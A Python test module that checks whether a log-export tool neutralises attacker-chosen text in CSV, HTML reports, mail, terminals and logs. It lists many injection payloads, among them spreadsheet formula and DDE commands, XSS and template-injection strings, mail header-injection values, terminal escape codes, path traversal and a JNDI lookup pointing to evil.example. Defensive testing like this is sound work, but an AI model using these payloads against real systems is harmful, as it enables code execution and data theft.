"""Text that an attacker chose goes through every way out, and has no effect on any of them."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import unicodedata
from collections.abc import Callable
from email import message_from_bytes
from email.policy import default
from html.parser import HTMLParser
from pathlib import Path

import pytest
import structlog

from tests.mail.reports import MONTH as OCTOBER
from tests.mail.reports import coverage, figures, local, month_report, stretch
from tests.store.lake_words import T0, TENANT, World
from trailkeeper import logs
from trailkeeper.cli import output
from trailkeeper.cli.exits import guarded
from trailkeeper.cli.export import _Terminal
from trailkeeper.errors import Transient
from trailkeeper.mail.message import Mailbox, compose
from trailkeeper.mail.render import ReportRenderer
from trailkeeper.microsoft.activity.faults import activity_error
from trailkeeper.microsoft.http.answer import Answer
from trailkeeper.microsoft.records import RecordReader
from trailkeeper.model.report import Delivery

CANARY = "c4n4ry"
LEADS = [*("", " ", "\u00a0", "\ufeff", "\u200b", "\u3000"), *"\x00\x0b\x1f\u2028\u202e", '"']
SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212")
BEFORE = ["\t", "\r", "\n", "x;", "x|", "x\n", "x; \u200b", 'x;"']
FORMULAS = [
    *(f"{lead}=HYPERLINK(A1)" for lead in LEADS),
    *(f"{sign}1+{CANARY}" for sign in SIGNS),
    *(f"{before}=cmd|' /C calc'!A0" for before in BEFORE),
]
HTML = [
    f"<script>{CANARY}</script>",
    f'"><img src=x onerror={CANARY}>',
    f"' onmouseover='{CANARY}",
    "</td></tr></table><form action=//evil.example>",
    "<style>*{display:none}</style>",
    "&lt;script&gt;",
    "<a href=javascript:alert(1)>x</a>",
    "<!--",
    "]]><svg/onload=alert(1)>",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "{# x #}",
    "${7*7}",
]
LINKS = [
    "https://evil.example/x",
    "https:/\u200b/evil.example",
    "www.evil.example",
    "evil.example/login",
    "mailto:x@evil.example",
    "tel:+491234",
    "javascript:alert(1)",
    "ftp://evil.example",
    "//evil.example/a",
    "\\\\evil.example\\share",
]
HEADERS = [
    "x\r\nBcc: everyone@evil.example",
    "x\nSubject: owned",
    "x\r\n\r\n<html>body</html>",
    "=?utf-8?q?x=0D=0ABcc:_e@evil.example?=",
    "x\u2028Bcc: e@evil.example",
    "x\x85Bcc: e@evil.example",
]
TERMINAL = [
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]52;c;Y2FuYXJ5\x07",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x1bP$q\x1b\\",
    "back\x08\x08\x08\x08done",
    "over\rwritten",
    "\x07\x07",
    "invoice\u202egnp.exe",
    "\u2066x\u2069",
    "zero\u200bwidth",
    "\u0000nul",
    "\x7fdel",
    "\U000e0041tag",
    "half \ud800 pair",
]
MARKUP = ["[bold red]x[/]", "[link=https://evil.example]x[/link]", "[/]", ":boom:", "[blink]"]
PATHS = ["../../etc/passwd", "..\\..\\x", "/etc/cron.d/x", "x\0.csv", "CON", "a/b", "~root/x"]
LOGS = [
    '"} {"event":"logged_in","level":"info',
    "x\nlevel=error event=owned",
    "%s%s%n",
    "${jndi:ldap://evil.example/a}",
    "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.sig",
]
INJECTIONS = [*FORMULAS, *HTML, *LINKS, *HEADERS, *TERMINAL, *MARKUP, *PATHS, *LOGS]

_RUNS = re.compile(
    r'[\s"\x00-\x1f\x7f-\x9f\xa0\xad\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3000\ufeff]*'
    r"[=+\-@\uff1d\uff0b\uff0d\uff20\u2212]"
)
_OBEYED = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f]")


def test_there_are_enough_of_them() -> None:
    """Sixty at least, of every kind."""
    assert len(set(INJECTIONS)) == len(INJECTIONS) >= 60


def record(number: int, text: str) -> str:
    fields = dict.fromkeys(["Operation", "Workload", "UserId", "ClientIP", "ResultStatus"], text)
    when = f"2026-10-{number % 28 + 1:02}T08:00:00"
    return json.dumps({"Id": f"{text}{number}", "CreationTime": when, "UserAgent": text, **fields})


@pytest.fixture(scope="module")
def stored(tmp_path_factory: pytest.TempPathFactory) -> World:
    """All of them as records, through the door, landing and lake."""
    world = World(tmp_path_factory.mktemp("injections"))
    texts = [record(n, text) for n, text in enumerate(INJECTIONS)]
    nothing = [None] * len(texts)
    world.fold(world.claim(world.land(RecordReader(T0).read(texts, nothing, nothing))))
    return world


def test_every_one_comes_out_as_it_came_in(stored: World) -> None:
    """The lines of JSON keep each text, byte for byte: guarding is the reader's side's affair."""
    sent = {record(n, text) for n, text in enumerate(INJECTIONS)}
    assert set(stored.lines()) == sent


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_cell_of_the_csv_runs(stored: World, separator: str) -> None:
    """Whatever separator a spreadsheet takes, no cell begins as a formula does, whatever unseen
    characters it would skip."""
    out = io.BytesIO()
    assert stored.lake.export_csv(TENANT, None, out) == len(INJECTIONS)
    text = out.getvalue().decode()
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if _RUNS.match(cell) or cell[:1] in ("\t", "\r", "\n")] == []
    if separator == ",":
        assert len(rows) == len(INJECTIONS) + 1
        sent = {json.dumps(json.loads(record(n, t))) for n, t in enumerate(INJECTIONS)}
        assert {json.dumps(json.loads(row[-1])) for row in rows[1:]} == sent


class _Page(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.shape: list[tuple[str, tuple[str, ...]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append((tag, tuple(sorted(name for name, _ in attrs))))


def _report(names: list[str], folder: Path) -> tuple[list[tuple[str, tuple[str, ...]]], Delivery]:
    gaps = [
        stretch(local(3, hour), local(3, 1) - local(3), text) for hour, text in enumerate(names)
    ]
    report = month_report(figures(names[:4], names, names), [coverage(gaps=gaps)], domain=names[0])
    folder.mkdir(parents=True)
    rendered = ReportRenderer().render(report, folder, lambda out: out.write(b"Id\r\n") and 1)
    delivery = Delivery(7, "contoso", OCTOBER, "<x@trailkeeper.example>", (), rendered, 1, 1)
    return _Page(rendered.html).shape, delivery


def _names(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.rglob("*"))


_LINKED = r"(?i)[a-z]://|\bwww\.|mailto:|javascript:|tel:|(?<!\[://\])evil\.example[/\\]"


@pytest.mark.parametrize("start", range(0, len(INJECTIONS), 24))
def test_no_report_or_mail_is_changed_by_them(tmp_path: Path, start: int) -> None:
    """The page has the elements that harmless names give, the mail its headers, the folder its
    files; no line of the text is theirs, and nothing in it turns into a link."""
    names = INJECTIONS[start : start + 24]
    harmless = [f"name{n}" for n in range(len(names))]
    shape, delivery = _report(names, tmp_path / "hostile")
    expected, plain = _report(harmless, tmp_path / "harmless")
    assert shape == expected
    assert _names(tmp_path / "hostile") == _names(tmp_path / "harmless")
    text = delivery.rendered.text
    assert not re.search(r"^(Bcc|Subject|level=)", text, re.MULTILINE)
    assert not _OBEYED.search(text.replace("\n", ""))
    assert not re.search(_LINKED, text)
    sender, to = Mailbox.parse("audit@msp.example"), [Mailbox.parse("a@contoso.example")]
    headers = [
        [name for name, _ in message_from_bytes(compose(d, sender, to), policy=default).items()]
        for d in (delivery, plain)
    ]
    assert headers[0] == headers[1]


def _say(write: Callable[[str], object], text: str, capsys: pytest.CaptureFixture[str]) -> str:
    capsys.readouterr()
    write(text)
    said = capsys.readouterr()
    return said.out + said.err


def _refuse(text: str) -> None:
    def command() -> None:
        raise Transient(text, "It is asked again.")

    guarded(command)


def _log(text: str) -> None:
    structlog.get_logger().warning("blob_failed", reason=text, names=[text], inner={"x": text})


def _foreign_log(text: str) -> None:
    logging.getLogger("celery").warning("said %s", text)


@pytest.mark.parametrize("text", INJECTIONS, ids=ascii)
def test_no_terminal_and_no_log_obeys_them(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Results, remarks, errors, coverage in colour, and logs for people and for machines."""
    ways: list[Callable[[str], object]] = [
        output.line,
        output.json_line,
        output.note,
        lambda t: output.console().print(t, style="red"),
        _refuse,
    ]
    for write in ways:
        said = _say(write, text, capsys)
        assert not _OBEYED.search(said.rstrip("\n")), ascii(said)
    plain = " ".join(text.split())
    if plain.isascii() and plain.isprintable() and plain == text:
        assert text in _say(output.console().print, text, capsys)  # markup is text
    for as_json in (True, False):
        logs.configure("info", as_json=as_json)
        for log in (_log, _foreign_log):
            said = _say(log, text, capsys)
            ours = re.sub(r"\x1b\[[0-9;]*m", "", said) if not as_json else said
            assert not _OBEYED.search(ours.rstrip("\n")), ascii(said)
            assert "sig" not in said or "eyJ" not in said
            if as_json:
                (line,) = said.splitlines()
                assert json.loads(line)["event"].split()[0] in ("blob_failed", "said")
            else:
                assert len(said.splitlines()) == 1


@pytest.mark.parametrize("text", TERMINAL, ids=ascii)
def test_records_on_a_terminal_are_the_same_values(text: str) -> None:
    """An export that is looked at obeys no more, and is still the same JSON."""
    out = io.BytesIO()
    raw = json.dumps({"UserAgent": text.replace("\ud800", "")}, ensure_ascii=False)
    _Terminal(out).write(raw.encode())  # type: ignore[arg-type]
    shown = out.getvalue().decode()
    assert not _OBEYED.search(shown)
    assert json.loads(shown) == json.loads(raw)


@pytest.mark.parametrize("text", INJECTIONS, ids=ascii)
def test_an_error_in_a_providers_words_is_one_plain_line(text: str) -> None:
    """What a server says of itself ends in logs, ledger and mail."""
    body = json.dumps({"error": {"code": "AF10001", "message": text}}).encode()
    error = activity_error(Answer(400, {"request-id": "x\x1b[31m"}, body, "x"))
    assert str(error).splitlines() == [str(error)]
    assert not any(unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") for c in str(error))
